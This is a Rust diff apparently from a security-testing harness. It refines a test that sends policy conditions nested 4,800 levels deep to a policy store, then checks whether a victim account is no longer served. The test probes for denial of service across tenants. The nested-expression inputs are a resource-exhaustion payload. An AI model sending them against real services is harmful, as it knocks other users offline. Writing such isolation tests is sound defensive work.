@@ -141,6 +141,7 @@ pub(super) const FAMILY: Family = Family {
                 let (key, own) = (&a.acme().access_key, &a.acme().policy_store_id);
                 let deep =
                     |open: &str, close: &str| format!("{}true{}", open.repeat(4_800), close.repeat(4_800));
+                let before = victim_served(a).await;
                 let mut tries = Vec::new();
                 for condition in [
                     deep("(", ")"),
@@ -157,9 +158,7 @@ pub(super) const FAMILY: Family = Family {
                     }
                     tries.push(outcome_of(&answer));
                 }
-                let theirs = a.loot().victims.clone().unwrap_or_default();
-                let served = a.send(a.theirs("GET", "/accounts").bearer(&theirs)).await;
-                let gone = served.status() == 0 || served.status() >= 500;
+                let gone = before && !victim_served(a).await;
                 let leak = gone.then(|| Leak::oracle("the victim is no longer served".to_owned()));
                 Outcome::furthest(tries).leaking(leak)
             }
@@ -179,6 +178,12 @@ pub(super) const FAMILY: Family = Family {
 };
 
 const ANYONE: &str = "permit (principal, action, resource);";
+
+/// Whether the victim is served what is its own.
+async fn victim_served(a: &Attacker) -> bool {
+    let (victim, token) = (a.victim(), a.loot().victims.clone().unwrap_or_default());
+    victim.send(victim.theirs("GET", "/accounts").bearer(&token)).await.status() == 200
+}
 
 /// Whether the own serving store permits what is the victim's; and the victim's payment, asked for at the own address.
 async fn reached(a: &Attacker) -> Outcome {
